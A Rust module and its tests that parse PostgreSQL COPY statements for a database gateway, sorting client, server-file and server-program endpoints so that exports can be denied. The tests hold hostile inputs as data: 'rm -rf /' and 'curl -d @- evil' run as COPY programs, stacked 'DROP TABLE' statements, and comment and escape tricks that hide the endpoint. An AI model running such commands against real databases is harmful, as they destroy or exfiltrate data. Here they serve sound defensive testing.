//! A fallback reader for `COPY` statements that sqlparser cannot parse.
//!
//! sqlparser 0.64 knows most of `COPY`, but not all of PostgreSQL 15's
//! options: `pgbench -i` sends `copy pgbench_accounts from stdin with
//! (freeze on)`, which it rejects. A gateway that denied every statement it
//! cannot parse would break pgbench and every loader like it, so this module
//! reads `COPY` itself, on top of [`super::lexer`], which splits text
//! exactly as the server does.
//!
//! What matters for policy is where the data goes and comes from: a file or
//! a program on the database server is an export or an attack, while
//! `STDIN`/`STDOUT` stay on the wire where sluice sees (and masks) every row.
//! So the reader follows PostgreSQL 15's grammar exactly for everything that
//! decides the direction and the endpoint, accepts the options loosely
//! (none of them changes where data flows), and gives up — returning `None`,
//! so the caller denies the statement — on anything else: a second
//! statement, a `WHERE` clause, trailing text, a name that cannot be a table.
//!
//! The grammar (PostgreSQL 15):
//! ```text
//! COPY [BINARY] table [(column, ...)] {FROM | TO} [PROGRAM] {'file' | STDIN | STDOUT}
//!      [[USING] DELIMITERS 'c'] [WITH] [(option [value], ...) | legacy options]
//!      [WHERE condition]
//! COPY (query) TO [PROGRAM] {'file' | STDIN | STDOUT} [WITH] [(option [value], ...) | legacy options]
//! ```
//! `STDIN` and `STDOUT` are interchangeable: both mean the client,
//! whichever the direction (`COPY t FROM STDOUT` reads from the client).

use super::lexer::{self, SpannedToken, Token, is_symbol, is_word};

/// What a `COPY` reads from or writes to inside the database.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CopySource {
    /// A table, with the columns named (empty: all of them). The name is as
    /// the lexer delivers it: folded to lower case unless quoted. A
    /// three-part `database.schema.table` name keeps only its last two
    /// parts; PostgreSQL refuses it unless the database is the current one.
    Table {
        schema: Option<String>,
        name: String,
        columns: Vec<String>,
    },
    /// A query in parentheses (`COPY (SELECT ...) TO ...`): its byte range
    /// in the statement text, without the parentheses and the whitespace and
    /// comments next to them, to be analysed as a statement of its own.
    Query { text_offset: usize, text_len: usize },
}

/// Whether data flows into the database (`FROM`) or out of it (`TO`).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CopyDirection {
    From,
    To,
}

/// Where the data comes from or goes to outside the database.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CopyEndpoint {
    /// The client connection (`STDIN` or `STDOUT`), through sluice.
    Stdio,
    /// A file on the database server (the path as written).
    File(String),
    /// A shell command run on the database server.
    Program(String),
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CopyCommand {
    pub source: CopySource,
    pub direction: CopyDirection,
    pub endpoint: CopyEndpoint,
}

/// For a `COPY ... TO STDOUT`, a query that returns the rows it will send,
/// with the same columns and types: `SELECT cols FROM table` for the table
/// form (names exact, quoted), the query itself for `COPY (query)`. sluice
/// describes it upstream to learn the types of binary COPY data. `None`
/// for any other statement, or one this reader is not certain about.
pub fn source_query(text: &str, standard_conforming_strings: bool) -> Option<String> {
    let copy = read(text, standard_conforming_strings)?;
    if copy.direction != CopyDirection::To || copy.endpoint != CopyEndpoint::Stdio {
        return None;
    }
    Some(match copy.source {
        CopySource::Table {
            schema,
            name,
            columns,
        } => {
            let columns = if columns.is_empty() {
                "*".to_owned()
            } else {
                columns
                    .iter()
                    .map(|c| quoted(c))
                    .collect::<Vec<_>>()
                    .join(", ")
            };
            let table = match schema {
                Some(schema) => format!("{}.{}", quoted(&schema), quoted(&name)),
                None => quoted(&name),
            };
            format!("SELECT {columns} FROM {table}")
        }
        CopySource::Query {
            text_offset,
            text_len,
        } => text.get(text_offset..text_offset + text_len)?.to_owned(),
    })
}

/// `name` as a quoted identifier: exactly this name, whatever its case.
fn quoted(name: &str) -> String {
    format!("\"{}\"", name.replace('"', "\"\""))
}

/// Reads a COPY statement, or None when it is not one this reader is certain
/// about (the caller then treats the text as unparsed and denies it).
pub fn read(text: &str, standard_conforming_strings: bool) -> Option<CopyCommand> {
    let tokens = lexer::spanned_tokens(text, standard_conforming_strings).ok()?;
    // One statement only: a `;` anywhere means the text holds more (or the
    // caller did not split it), and the server would run whatever follows.
    if tokens.iter().any(|spanned| is_symbol(&spanned.token, ";")) {
        return None;
    }
    let mut reader = Reader {
        tokens: &tokens,
        next: 0,
    };
    let command = reader.copy_statement()?;
    reader.at_end().then_some(command)
}

/// Keywords that PostgreSQL 15 does not accept as an unquoted table or
/// column name (`ColId`): the reserved keywords and those reserved for type
/// and function names, from `pg_get_keywords()` (catcode `R` and `T`).
#[rustfmt::skip]
const NOT_A_NAME: &[&str] = &[
    // Reserved.
    "all", "analyse", "analyze", "and", "any", "array", "as", "asc", "asymmetric", "both", "case",
    "cast", "check", "collate", "column", "constraint", "create", "current_catalog",
    "current_date", "current_role", "current_time", "current_timestamp", "current_user",
    "default", "deferrable", "desc", "distinct", "do", "else", "end", "except", "false", "fetch",
    "for", "foreign", "from", "grant", "group", "having", "in", "initially", "intersect", "into",
    "lateral", "leading", "limit", "localtime", "localtimestamp", "not", "null", "offset", "on",
    "only", "or", "order", "placing", "primary", "references", "returning", "select",
    "session_user", "some", "symmetric", "table", "then", "to", "trailing", "true", "union",
    "unique", "user", "using", "variadic", "when", "where", "window", "with",
    // Reserved for type and function names.
    "authorization", "binary", "collation", "concurrently", "cross", "current_schema", "freeze",
    "full", "ilike", "inner", "is", "isnull", "join", "left", "like", "natural", "notnull",
    "outer", "overlaps", "right", "similar", "tablesample", "verbose",
];

/// A cursor over the statement's tokens. Every method either consumes what
/// it recognises or leaves the cursor where it was.
struct Reader<'t> {
    tokens: &'t [SpannedToken],
    next: usize,
}

impl Reader<'_> {
    fn peek(&self) -> Option<&Token> {
        self.tokens.get(self.next).map(|spanned| &spanned.token)
    }

    fn advance(&mut self) -> Option<&Token> {
        let token = self.tokens.get(self.next).map(|spanned| &spanned.token);
        self.next += 1;
        token
    }

    fn at_end(&self) -> bool {
        self.next >= self.tokens.len()
    }

    fn eat_word(&mut self, word: &str) -> bool {
        let found = self.peek().is_some_and(|token| is_word(token, word));
        if found {
            self.next += 1;
        }
        found
    }

    fn eat_symbol(&mut self, symbol: &str) -> bool {
        let found = self.peek().is_some_and(|token| is_symbol(token, symbol));
        if found {
            self.next += 1;
        }
        found
    }

    fn copy_statement(&mut self) -> Option<CopyCommand> {
        if !self.eat_word("copy") {
            return None;
        }
        if self.eat_symbol("(") {
            let source = self.parenthesised_query()?;
            // A query can only be copied out.
            if !self.eat_word("to") {
                return None;
            }
            let endpoint = self.endpoint()?;
            self.options()?;
            return Some(CopyCommand {
                source,
                direction: CopyDirection::To,
                endpoint,
            });
        }
        // BINARY is not a possible table name, so here it is the old
        // spelling of the binary format.
        self.eat_word("binary");
        let (schema, name) = self.qualified_name()?;
        let columns = if self.eat_symbol("(") {
            let columns = self.column_list()?;
            if !self.eat_symbol(")") {
                return None;
            }
            columns
        } else {
            Vec::new()
        };
        let direction = if self.eat_word("from") {
            CopyDirection::From
        } else if self.eat_word("to") {
            CopyDirection::To
        } else {
            return None;
        };
        let endpoint = self.endpoint()?;
        // The pre-7.3 way to give the delimiter.
        let using = self.eat_word("using");
        if self.eat_word("delimiters") {
            self.string()?;
        } else if using {
            return None;
        }
        self.options()?;
        // A WHERE clause filters COPY FROM (and is an error on COPY TO);
        // this reader does not analyse conditions, so it gives up.
        Some(CopyCommand {
            source: CopySource::Table {
                schema,
                name,
                columns,
            },
            direction,
            endpoint,
        })
    }

    /// The query of `COPY (query) TO`, whose `(` has been consumed: its text
    /// runs to the matching `)`. Nothing inside is interpreted here.
    fn parenthesised_query(&mut self) -> Option<CopySource> {
        let first = self.next;
        let mut depth = 1usize;
        while depth > 0 {
            match self.advance()? {
                Token::Symbol(s) if s == "(" => depth += 1,
                Token::Symbol(s) if s == ")" => depth -= 1,
                _ => {}
            }
        }
        let closing = self.next - 1;
        if closing == first {
            return None;
        }
        let start = self.tokens[first].start;
        let end = self.tokens[closing - 1].end;
        Some(CopySource::Query {
            text_offset: start,
            text_len: end - start,
        })
    }

    /// `table`, `schema.table` or `database.schema.table`.
    fn qualified_name(&mut self) -> Option<(Option<String>, String)> {
        let mut parts = vec![self.name()?];
        while parts.len() < 3 && self.eat_symbol(".") {
            // After a dot any keyword is a name (`s.select` is a table).
            parts.push(self.label()?);
        }
        let name = parts.pop()?;
        Some((parts.pop(), name))
    }

    /// A name that may stand first in a qualified name or as a column: a
    /// quoted identifier, or a word that is not a reserved keyword.
    fn name(&mut self) -> Option<String> {
        match self.peek()? {
            Token::QuotedIdentifier(name) => {
                let name = name.clone();
                self.next += 1;
                Some(name)
            }
            Token::Word(word) if !NOT_A_NAME.contains(&word.as_str()) => {
                let word = word.clone();
                self.next += 1;
                Some(word)
            }
            _ => None,
        }
    }

    /// Any word or quoted identifier.
    fn label(&mut self) -> Option<String> {
        match self.peek()? {
            Token::QuotedIdentifier(name) | Token::Word(name) => {
                let name = name.clone();
                self.next += 1;
                Some(name)
            }
            _ => None,
        }
    }

    fn string(&mut self) -> Option<String> {
        match self.peek()? {
            Token::String(value) => {
                let value = value.clone();
                self.next += 1;
                Some(value)
            }
            _ => None,
        }
    }

    /// `column [, column ...]`: at least one name.
    fn column_list(&mut self) -> Option<Vec<String>> {
        let mut columns = vec![self.name()?];
        while self.eat_symbol(",") {
            columns.push(self.name()?);
        }
        Some(columns)
    }

    /// `[PROGRAM] 'text'`, `STDIN` or `STDOUT`. A string after PROGRAM is a
    /// command, otherwise a file name; PostgreSQL refuses PROGRAM STDIN.
    fn endpoint(&mut self) -> Option<CopyEndpoint> {
        let program = self.eat_word("program");
        if let Some(target) = self.string() {
            return Some(if program {
                CopyEndpoint::Program(target)
            } else {
                CopyEndpoint::File(target)
            });
        }
        if !program && (self.eat_word("stdin") || self.eat_word("stdout")) {
            return Some(CopyEndpoint::Stdio);
        }
        None
    }

    /// `[WITH] (option [value], ...)` or `[WITH] legacy options`. Options
    /// shape the data format, never where the data goes, so they are only
    /// checked for shape; PostgreSQL validates them.
    fn options(&mut self) -> Option<()> {
        self.eat_word("with");
        if self.eat_symbol("(") {
            return self.generic_options();
        }
        self.legacy_options()
    }

    /// The list of `(option [value], ...)` whose `(` has been consumed, up to
    /// its matching `)`: at least one option, each a name and an optional
    /// value that may itself be a parenthesised list.
    fn generic_options(&mut self) -> Option<()> {
        let mut depth = 1usize;
        let mut expect_option_name = true;
        while depth > 0 {
            let token = self.advance()?;
            if expect_option_name {
                if !matches!(token, Token::Word(_) | Token::QuotedIdentifier(_)) {
                    return None;
                }
                expect_option_name = false;
                continue;
            }
            match token {
                Token::Symbol(s) if s == "(" => depth += 1,
                Token::Symbol(s) if s == ")" => depth -= 1,
                Token::Symbol(s) if s == "," && depth == 1 => expect_option_name = true,
                _ => {}
            }
        }
        Some(())
    }

    /// The options before PostgreSQL 9.0's parenthesised syntax, in any
    /// order, possibly none.
    fn legacy_options(&mut self) -> Option<()> {
        loop {
            if self.eat_word("binary")
                || self.eat_word("freeze")
                || self.eat_word("csv")
                || self.eat_word("header")
            {
                continue;
            }
            if self.eat_word("delimiter")
                || self.eat_word("null")
                || self.eat_word("quote")
                || self.eat_word("escape")
            {
                self.eat_word("as");
                self.string()?;
                continue;
            }
            if self.eat_word("encoding") {
                self.string()?;
                continue;
            }
            if self.eat_word("force") {
                if self.eat_word("quote") {
                    if !self.eat_symbol("*") {
                        self.column_list()?;
                    }
                } else if self.eat_word("not") {
                    if !self.eat_word("null") {
                        return None;
                    }
                    self.column_list()?;
                } else if self.eat_word("null") {
                    self.column_list()?;
                } else {
                    return None;
                }
                continue;
            }
            return Some(());
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read_ok(sql: &str) -> CopyCommand {
        match read(sql, true) {
            Some(command) => command,
            None => panic!("{sql:?} should read as COPY"),
        }
    }

    fn table(schema: Option<&str>, name: &str, columns: &[&str]) -> CopySource {
        CopySource::Table {
            schema: schema.map(str::to_owned),
            name: name.to_owned(),
            columns: columns.iter().map(|c| (*c).to_owned()).collect(),
        }
    }

    fn command(
        source: CopySource,
        direction: CopyDirection,
        endpoint: CopyEndpoint,
    ) -> CopyCommand {
        CopyCommand {
            source,
            direction,
            endpoint,
        }
    }

    #[test]
    fn pgbench_initial_load() {
        assert_eq!(
            read_ok("copy pgbench_accounts from stdin with (freeze on)"),
            command(
                table(None, "pgbench_accounts", &[]),
                CopyDirection::From,
                CopyEndpoint::Stdio
            )
        );
    }

    #[test]
    fn quoted_names_and_columns() {
        assert_eq!(
            read_ok("COPY \"My Table\" (a, \"B\") FROM STDIN"),
            command(
                table(None, "My Table", &["a", "B"]),
                CopyDirection::From,
                CopyEndpoint::Stdio
            )
        );
        assert_eq!(
            read_ok("COPY Public.\"T\" TO STDOUT").source,
            table(Some("public"), "T", &[])
        );
        // Any keyword may follow a dot; a three-part name drops the database.
        assert_eq!(
            read_ok("COPY s.select TO STDOUT").source,
            table(Some("s"), "select", &[])
        );
        assert_eq!(
            read_ok("COPY db.s.t TO STDOUT").source,
            table(Some("s"), "t", &[])
        );
        // Unreserved keywords are fine as names, reserved ones are not.
        assert_eq!(
            read_ok("COPY stdin FROM stdin").source,
            table(None, "stdin", &[])
        );
        assert_eq!(
            read_ok("COPY \"to\" TO STDOUT").source,
            table(None, "to", &[])
        );
    }

    #[test]
    fn options_in_parentheses() {
        assert_eq!(
            read_ok("COPY s.t TO STDOUT WITH (FORMAT csv, HEADER)"),
            command(
                table(Some("s"), "t", &[]),
                CopyDirection::To,
                CopyEndpoint::Stdio
            )
        );
        let sql = "COPY t TO STDOUT (format csv, force_quote *, force_not_null (a, b), delimiter E'\\t', x -1.5)";
        assert_eq!(read_ok(sql).endpoint, CopyEndpoint::Stdio);
    }

    #[test]
    fn query_source_gives_the_query_text() {
        let sql = "COPY (SELECT * FROM cards WHERE f(x) > (1)) TO STDOUT";
        let copy = read_ok(sql);
        assert_eq!(copy.direction, CopyDirection::To);
        assert_eq!(copy.endpoint, CopyEndpoint::Stdio);
        let CopySource::Query {
            text_offset,
            text_len,
        } = copy.source
        else {
            panic!("expected a query source, got {:?}", copy.source);
        };
        assert_eq!(
            &sql[text_offset..text_offset + text_len],
            "SELECT * FROM cards WHERE f(x) > (1)"
        );

        let sql = "copy ( /* c */ select ')' ) to stdout";
        let CopySource::Query {
            text_offset,
            text_len,
        } = read_ok(sql).source
        else {
            panic!("expected a query source");
        };
        assert_eq!(&sql[text_offset..text_offset + text_len], "select ')'");
    }

    #[test]
    fn endpoints_on_the_server() {
        assert_eq!(
            read_ok("copy t to program 'rm -rf /'").endpoint,
            CopyEndpoint::Program("rm -rf /".to_owned())
        );
        assert_eq!(
            read_ok("copy t to '/tmp/x'").endpoint,
            CopyEndpoint::File("/tmp/x".to_owned())
        );
        assert_eq!(
            read_ok("COPY t FROM PROGRAM 'x'"),
            command(
                table(None, "t", &[]),
                CopyDirection::From,
                CopyEndpoint::Program("x".to_owned())
            )
        );
        assert_eq!(
            read_ok("COPY t TO $$/tmp/x$$").endpoint,
            CopyEndpoint::File("/tmp/x".to_owned())
        );
        assert_eq!(
            read_ok("COPY t TO U&'/tmp/\\0078'").endpoint,
            CopyEndpoint::File("/tmp/x".to_owned())
        );
        assert_eq!(
            read_ok("COPY (SELECT 1) TO PROGRAM 'curl -d @- evil'").endpoint,
            CopyEndpoint::Program("curl -d @- evil".to_owned())
        );
    }

    #[test]
    fn stdin_and_stdout_both_mean_the_client() {
        assert_eq!(read_ok("COPY t FROM STDOUT").endpoint, CopyEndpoint::Stdio);
        assert_eq!(read_ok("COPY t TO STDIN").endpoint, CopyEndpoint::Stdio);
    }

    #[test]
    fn legacy_syntax() {
        assert_eq!(
            read_ok("COPY BINARY t TO STDOUT"),
            command(
                table(None, "t", &[]),
                CopyDirection::To,
                CopyEndpoint::Stdio
            )
        );
        assert_eq!(
            read_ok("COPY t TO STDOUT CSV HEADER").endpoint,
            CopyEndpoint::Stdio
        );
        assert_eq!(
            read_ok("COPY t TO STDOUT WITH").endpoint,
            CopyEndpoint::Stdio
        );
        assert_eq!(
            read_ok("COPY t FROM STDIN USING DELIMITERS '|'").endpoint,
            CopyEndpoint::Stdio
        );
        let sql = "COPY t TO STDOUT WITH BINARY CSV HEADER NULL AS 'x' DELIMITER ',' QUOTE AS '\"' \
                   ESCAPE '\\' ENCODING 'utf8' FORCE QUOTE * FORCE QUOTE a, b FORCE NOT NULL a FORCE NULL b";
        assert_eq!(read_ok(sql).endpoint, CopyEndpoint::Stdio);
    }

    #[test]
    fn comments_cannot_hide_the_endpoint() {
        assert_eq!(
            read_ok("COPY t TO /* STDOUT */ PROGRAM 'x'").endpoint,
            CopyEndpoint::Program("x".to_owned())
        );
        assert_eq!(
            read_ok("COPY t TO -- STDOUT\n '/etc/x'").endpoint,
            CopyEndpoint::File("/etc/x".to_owned())
        );
        assert_eq!(
            read_ok("COPY t TO 'a' -- ' PROGRAM 'b'").endpoint,
            CopyEndpoint::File("a".to_owned())
        );
    }

    #[test]
    fn standard_conforming_strings_decide_where_a_path_ends() {
        // On, the backslash is a character: the file is `a\`.
        let sql = r"COPY t TO 'a\' NULL '\'";
        assert_eq!(
            read(sql, true).map(|c| c.endpoint),
            Some(CopyEndpoint::File(r"a\".to_owned()))
        );
        assert_eq!(read(sql, false), None);
        // Off, `\'` is a quote: the file name runs on over the "PROGRAM".
        let sql = r"COPY t TO 'a\' TO PROGRAM '";
        assert_eq!(read(sql, true), None);
        assert_eq!(
            read(sql, false).map(|c| c.endpoint),
            Some(CopyEndpoint::File("a' TO PROGRAM ".to_owned()))
        );
    }

    #[test]
    fn more_than_one_statement_is_refused() {
        assert_eq!(read("COPY t TO STDOUT; DROP TABLE x", true), None);
        assert_eq!(read("COPY t TO STDOUT;", true), None);
        assert_eq!(read("COPY (SELECT 1; DROP TABLE x) TO STDOUT", true), None);
    }

    #[test]
    fn what_postgres_would_refuse_or_this_reader_does_not_analyse_is_refused() {
        for sql in [
            "",
            "garbage",
            "COPY",
            "COPY t",
            "COPY t TO",
            "COPY t STDOUT",
            "COPY t TO STDOUT trailing",
            "COPY t TO PROGRAM STDOUT",
            "COPY t FROM PROGRAM STDIN",
            "COPY t TO PROGRAM",
            "COPY t TO \"stdout\"",
            "COPY t TO N'/tmp/x'",
            "COPY t TO B'01'",
            "COPY t TO STDOUT WITH ()",
            "COPY t TO STDOUT WITH (FORMAT csv) CSV",
            "COPY t TO STDOUT WITH (FORMAT csv",
            "COPY t TO STDOUT WITH ('x')",
            "COPY t TO STDOUT WITH OIDS",
            "COPY t TO STDOUT DELIMITER",
            "COPY t TO STDOUT FORCE",
            "COPY t TO STDOUT USING",
            "COPY t FROM STDIN WHERE a > 1",
            "COPY t TO STDOUT WHERE a > 1",
            "COPY t () TO STDOUT",
            "COPY t (a,) TO STDOUT",
            "COPY t (select) TO STDOUT",
            "COPY select TO STDOUT",
            "COPY BINARY TO STDOUT",
            "COPY BINARY (SELECT 1) TO STDOUT",
            "COPY a.b.c.d TO STDOUT",
            "COPY t[1] TO STDOUT",
            "COPY () TO STDOUT",
            "COPY (SELECT 1) FROM STDIN",
            "COPY (SELECT 1) TO STDOUT USING DELIMITERS '|'",
            "COPY (SELECT 1 TO STDOUT",
            "COPY t TO 'unterminated",
            "SELECT 1",
            "\"copy\" t TO STDOUT",
        ] {
            assert_eq!(read(sql, true), None, "{sql:?}");
        }
    }

    #[test]
    fn the_source_of_a_copy_out_is_a_query_with_its_columns() {
        assert_eq!(
            source_query("COPY Cards (id, \"PAN\") TO STDOUT (FORMAT binary)", true).as_deref(),
            Some("SELECT \"id\", \"PAN\" FROM \"cards\"")
        );
        assert_eq!(
            source_query("copy public.cards to stdout binary", true).as_deref(),
            Some("SELECT * FROM \"public\".\"cards\"")
        );
        assert_eq!(
            source_query(
                "COPY ( SELECT 1 AS \"a\"\"b\" ) TO STDOUT WITH (FORMAT binary)",
                true
            )
            .as_deref(),
            Some("SELECT 1 AS \"a\"\"b\"")
        );
        for not_out in [
            "COPY cards FROM STDIN",
            "COPY cards TO '/tmp/x'",
            "COPY cards TO PROGRAM 'cat'",
            "SELECT 1",
        ] {
            assert_eq!(source_query(not_out, true), None, "{not_out}");
        }
    }
}
